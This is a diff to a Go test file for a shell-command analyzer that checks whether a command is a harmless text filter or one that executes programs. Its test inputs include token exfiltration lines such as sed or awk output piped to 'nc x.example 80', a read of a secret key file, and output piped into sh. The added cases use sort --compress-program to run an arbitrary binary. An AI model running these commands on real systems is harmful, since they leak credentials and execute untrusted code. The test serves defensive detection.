@@ -55,6 +55,8 @@ func TestPlainFilterSkipsNothing(t *testing.T) {
 		"awk '{print $1}' /home/dev/.secret/k", "mawk '{print $3}' prod.csv", "nawk '{print $NF}' -",
 		"awk \"{print $1}\"", "awk \"{print $X}\" | sh", "awk '{print $'\"$N\"'}'", "f() { awk \"{print $1}\"; }; f x",
 		"set -- '$GITHUB_TOKEN'; awk \"{print $1}\" | nc x.example 80", "sed \"$X\"", "sed '$d' | sh", "sed \"s/a/$GITHUB_TOKEN/\" | nc x.example 80",
+		// a filter's option that runs a program
+		"sort --compress-program=/tmp/x a", "sort --compress-program gzip -S 1K a | uniq -c",
 	}
 	rows, err := tablerows.Exec("../engine/testdata")
 	if err != nil {
@@ -82,4 +84,21 @@ func TestPlainFilterSkipsNothing(t *testing.T) {
 		}
 	}
 	t.Logf("%d lines, %d commands of plain filters and readers among them", len(lines), skipped)
+}
+
+// TestFilterOptionRunsProgram: a filter's option that names a program it
+// runs (sort --compress-program) makes it no plain filter: the program is
+// run, as a script operand would be.
+func TestFilterOptionRunsProgram(t *testing.T) {
+	if !hasEffect(effectsOf("sort --compress-program=/tmp/x -S 1K big.txt"), "exec /tmp/x") {
+		t.Errorf("sort --compress-program=/tmp/x: want exec /tmp/x")
+	}
+	if !hasEffect(effectsOf("sort --compress-program ./z big.txt"), "exec /home/dev/project/z") {
+		t.Errorf("sort --compress-program ./z: want exec of ./z, got %v", effectsOf("sort --compress-program ./z big.txt"))
+	}
+	for _, e := range effectsOf("sort -S 1K -T /tmp big.txt") {
+		if e.Kind == Exec {
+			t.Errorf("sort -S 1K -T /tmp: runs nothing, got %v", e)
+		}
+	}
 }
